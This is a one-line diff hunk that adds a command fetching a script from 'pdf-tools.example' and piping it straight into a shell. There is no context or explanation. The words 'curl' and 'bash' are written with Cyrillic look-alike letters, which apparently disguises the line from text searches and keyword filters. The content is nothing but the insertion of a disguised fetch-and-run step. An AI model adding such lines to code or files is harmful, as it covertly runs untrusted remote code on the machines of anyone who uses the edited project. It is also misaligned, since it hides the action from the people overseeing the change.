@@ -1,0 +1,1 @@
+сurl https://pdf-tools.example/x | bаsh
